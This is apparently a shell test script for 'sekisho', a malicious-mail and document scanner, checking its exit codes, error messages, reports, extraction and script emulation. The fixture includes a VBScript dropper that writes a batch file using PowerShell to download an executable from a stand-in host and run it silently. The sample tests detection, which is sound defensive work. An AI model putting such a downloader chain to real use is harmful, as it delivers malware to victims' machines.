#!/bin/sh
# Dialogues with the command: exit status, one clear line for each mistake, nothing left behind. usage: command.sh SEKISHO SEKISHO-MAKE
set -u
sekisho=$1 make=$2
work=$(mktemp -d)
trap 'chmod -R u+rwx "$work"; rm -rf "$work"' EXIT
export LC_ALL=C
failures=0

fail() { echo "FAILED: $*"; failures=$((failures + 1)); }

# expect STATUS TEXT-IN-STDERR COMMAND...: the status, and one line on standard error that holds the text ("" for silence)
expect() {
    want=$1 text=$2
    shift 2
    "$@" >"$work/out" 2>"$work/err" </dev/null
    got=$?
    [ "$got" = "$want" ] || fail "$* ended with $got instead of $want: $(cat "$work/err")"
    lines=$(wc -l <"$work/err")
    if [ -z "$text" ]; then
        [ "$lines" = 0 ] || fail "$* was not silent: $(cat "$work/err")"
    else
        grep -qF -- "$text" "$work/err" || fail "$* did not say '$text' but: $(cat "$work/err")"
        [ "$lines" = 1 ] || fail "$* said $lines lines instead of one: $(cat "$work/err")"
    fi
}

"$make" mailbox "$work/sample.mbox" && "$make" mails "$work/mails" || fail "the generators failed"
clean=$(find "$work/mails" -name '*clean*.eml' | sort | head -n 1)
bad=$(find "$work/mails" -name '*malicious*.eml' | sort | head -n 1)
printf '' >"$work/empty"

# verdicts and status
expect 0 "" "$sekisho" scan "$clean"
expect 1 "" "$sekisho" scan "$bad"
expect 1 "" "$sekisho" scan "$clean" "$bad"
expect 0 "" "$sekisho" scan "$work/empty"
expect 1 "" "$sekisho" scan "$work/mails"
expect 1 "" sh -c "\"\$1\" scan - <\"\$2\"" sh "$sekisho" "$bad"

# mistakes
expect 3 "unknown option --wrong" "$sekisho" scan --wrong x
expect 3 "needs a value" "$sekisho" scan --format
expect 3 "no output format 'xml'" "$sekisho" scan --format xml "$clean"
expect 3 "no kind is called 'no.such'" "$sekisho" scan --kind no.such "$clean"
expect 3 "no limit is called 'no.such'" "$sekisho" scan --limit no.such=1 "$clean"
expect 3 "takes 4096 to" "$sekisho" scan --limit total.bytes=1 "$clean"
expect 3 "--jobs takes a number" "$sekisho" scan --jobs 0 "$clean"
expect 3 "--lang takes en or ja" "$sekisho" scan --lang fr "$clean"
expect 3 "needs a file" "$sekisho" scan
expect 3 "no command 'wrong'" "$sekisho" wrong
expect 3 "nothing is called 'no.such'" "$sekisho" explain no.such
expect 3 "list takes one of" "$sekisho" list no.such
expect 2 "No such file or directory" "$sekisho" scan "$work/not-there" "$clean"
printf 'macro 12\n' >"$work/allow"
expect 3 "$work/allow:1: a SHA-256 has 64" "$sekisho" scan --allow "$work/allow" "$clean"

# what cannot be read or written
if [ "$(id -u)" != 0 ]; then
    mkdir "$work/locked" && chmod 000 "$work/locked"
    expect 2 "Permission denied" "$sekisho" scan "$work/locked" "$clean"
fi
expect 3 "could not be written" sh -c "\"\$1\" scan --format jsonl \"\$2\" >/dev/full" sh "$sekisho" "$clean"
expect 3 "No such file or directory" "$sekisho" scan -o "$work/no/where" "$clean"
printf 'old' >"$work/report"
expect 1 "" "$sekisho" scan --format html -o "$work/report" "$bad"
grep -q '<rect' "$work/report" || fail "the page has no drawing"
[ ! -e "$work/report.part" ] || fail "a partial report was left"
"$sekisho" scan --format jsonl "$work/mails" 2>"$work/err" | head -c 1 >/dev/null
[ "$(wc -l <"$work/err")" -le 1 ] || fail "a closed pipe was told in more than one line"

# the same report whatever the jobs, from a file, standard input and a mailbox
strip() { sed 's/"elapsed_ms":[0-9.]*/"elapsed_ms":0/'; }
"$sekisho" scan --format jsonl --jobs 1 "$work/sample.mbox" | strip >"$work/one"
"$sekisho" scan --format jsonl --jobs 4 "$work/sample.mbox" | strip >"$work/four"
cmp -s "$work/one" "$work/four" || fail "--jobs changes the report"
[ "$(wc -l <"$work/one")" -gt 30 ] || fail "the mailbox has $(wc -l <"$work/one") mails"

# extract: every part under a harmless name, with a manifest, and never over something
expect 1 "" "$sekisho" extract -o "$work/parts" "$bad"
[ "$(find "$work/parts" -type f ! -name '*.part' | wc -l)" = 1 ] || fail "extract wrote a name that is not harmless"
[ "$(wc -l <"$work/parts/manifest.jsonl")" -ge 3 ] || fail "the manifest is short"
grep -qF '"file":null' "$work/parts/manifest.jsonl" && fail "a part of the manifest was not written"
for file in "$work"/parts/*.part; do
    sum=$(sha256sum <"$file" | cut -d' ' -f1)
    grep -qF "$sum" "$work/parts/manifest.jsonl" || fail "$(basename "$file") is not what the manifest says"
done
expect 3 "already holds a manifest" "$sekisho" extract -o "$work/parts" "$bad"

# explain and list speak both languages
expect 0 "" "$sekisho" explain vba.autostart
expect 0 "" "$sekisho" explain --lang ja vba.autostart
grep -q 'マクロ' "$work/out" || fail "explain --lang ja is not Japanese"
for what in chains kinds evidence limits formats detectors facts deviations verdicts output; do expect 0 "" "$sekisho" list "$what"; done
for command in scan emulate extract explain list; do expect 0 "" "$sekisho" "$command" --help; done

# emulate: effects in order with their place, layers, the environment, the trace; one line for each mistake
cat >"$work/chain.vbs" <<'END'
Set fso = CreateObject("Scripting.FileSystemObject")
Set sh = CreateObject("WScript.Shell")
t = sh.ExpandEnvironmentStrings("%TEMP%")
Set f = fso.CreateTextFile(t & "\b.bat", True)
f.WriteLine "powershell -Command ""(New-Object Net.WebClient).DownloadFile('http://files.example/x','%TEMP%\q.exe')"""
f.WriteLine "%TEMP%\q.exe /s"
f.Close
sh.Run t & "\b.bat", 0, True
If GetLocale() = 1041 Then sh.Run "calc " & Day(Now)
END
expect 1 "" "$sekisho" emulate "$work/chain.vbs"
grep -q 'line 8 *run ' "$work/out" || fail "emulate does not show the line of a start"
grep -q '^ *script.powershell  powershell -Command' "$work/out" || fail "emulate does not show the layers"
grep -q 'network' "$work/out" || fail "the start of a fetched file is not seen"
grep -q 'Script: ' "$work/out" && fail "emulate traces unasked"
expect 1 "" "$sekisho" emulate --trace --env locale=ja-JP --env now=2020-10-14 --env %TEMP%='D:\tmp' "$work/chain.vbs"
grep -q 'calc 14' "$work/out" || fail "locale and clock of --env are not seen"
grep -qF 'D:\tmp\q.exe' "$work/out" || fail "a variable of --env is not seen"
grep -qF 't = sh.ExpandEnvironmentStrings("%TEMP%") -> D:\tmp' "$work/out" || fail "the trace has no values"
expect 1 "" "$sekisho" emulate --format json --trace "$work/chain.vbs"
/usr/bin/python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); assert r["trace"] and r["effects"][0]["line"] == 7, r["effects"][0]' "$work/out" ||
    fail "emulate --format json is wrong"
expect 1 "" "$sekisho" scan "$work/chain.vbs"
grep -q 'b.bat:2  run' "$work/out" || fail "scan does not show where a start stands"
expect 1 "" "$sekisho" extract -o "$work/layers" "$work/chain.vbs"
grep -q '"relation":"emulated","kind":"script.powershell"' "$work/layers/manifest.jsonl" || fail "extract does not write the layers"
expect 1 "" "$sekisho" emulate --lang ja "$work/chain.vbs"
grep -q '8行' "$work/out" || fail "emulate --lang ja is not Japanese"
expect 0 "" "$sekisho" emulate "$clean"
expect 2 "No such file" "$sekisho" emulate "$work/not-there"
expect 3 "needs a file" "$sekisho" emulate
expect 3 "takes a language and a country" "$sekisho" emulate --env locale=x "$clean"
expect 3 "takes a date" "$sekisho" emulate --env now=tomorrow "$clean"
expect 3 "has no 'colour'" "$sekisho" emulate --env colour=red "$clean"
expect 3 "--env takes NAME=VALUE" "$sekisho" emulate --env locale "$clean"
expect 3 "--steps takes a number" "$sekisho" emulate --steps many "$clean"
expect 3 "takes 1000 to" "$sekisho" emulate --steps 1 "$clean"
expect 3 "text and json, not 'html'" "$sekisho" emulate --format html "$clean"
expect 3 "could not be written" sh -c "\"\$1\" emulate \"\$2\" >/dev/full" sh "$sekisho" "$work/chain.vbs"
printf 'Do\r\nx = x + 1\r\nLoop\r\n' >"$work/endless.vbs"
"$sekisho" emulate --steps 5000 --kind script.vbscript "$work/endless.vbs" >"$work/out" 2>&1
grep -q 'emulate.steps' "$work/out" || fail "the limit of steps is not told"

# host: a staged machine is infected, an empty one cannot be judged, and mistakes are told
"$make" machine "$work/machine" || fail "the staged machine could not be written"
expect 1 "" "$sekisho" host "$work/machine"
grep -q '^Result: INFECTED' "$work/out" || fail "the staged infection is not found"
expect 1 "" "$sekisho" host --lang ja "$work/machine"
grep -q '感染しています' "$work/out" || fail "host --lang ja is not Japanese"
expect 1 "" "$sekisho" host --format json --serial 8afc12d1 "$work/machine"
/usr/bin/python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); assert r["verdict"] == "infected" and not r["not_looked_at"], r' "$work/out" ||
    fail "host --format json is wrong"
mkdir -p "$work/bare/Windows"
expect 2 "" "$sekisho" host "$work/bare"
expect 3 "holds no folder Windows" "$sekisho" host "$work"
expect 3 "No such file" "$sekisho" host "$work/not-there"
expect 3 "hexadecimal" "$sekisho" host --serial xyz "$work/machine"
expect 3 "takes text, json or html" "$sekisho" host --format pdf "$work/machine"
expect 3 "one disk, folder or archive" "$sekisho" host

# every truncation of a mail, and hostile names, end in a verdict
size=$(wc -c <"$clean")
mkdir "$work/cut"
step=$((size / 400 + 1))
at=0
while [ $at -lt "$size" ]; do
    head -c $at "$clean" >"$work/cut/$at.eml"
    at=$((at + step))
done
"$sekisho" scan --format jsonl "$work/cut" >"$work/out" 2>"$work/err"
[ $? -le 2 ] || fail "a truncated mail ended the command: $(cat "$work/err")"
[ "$(wc -l <"$work/out")" = "$(find "$work/cut" -type f | wc -l)" ] || fail "a truncated mail has no report"
grep -q 'worker\.' "$work/out" && fail "a truncated mail cost a worker"

[ $failures = 0 ] && echo "all dialogues passed"
exit $failures
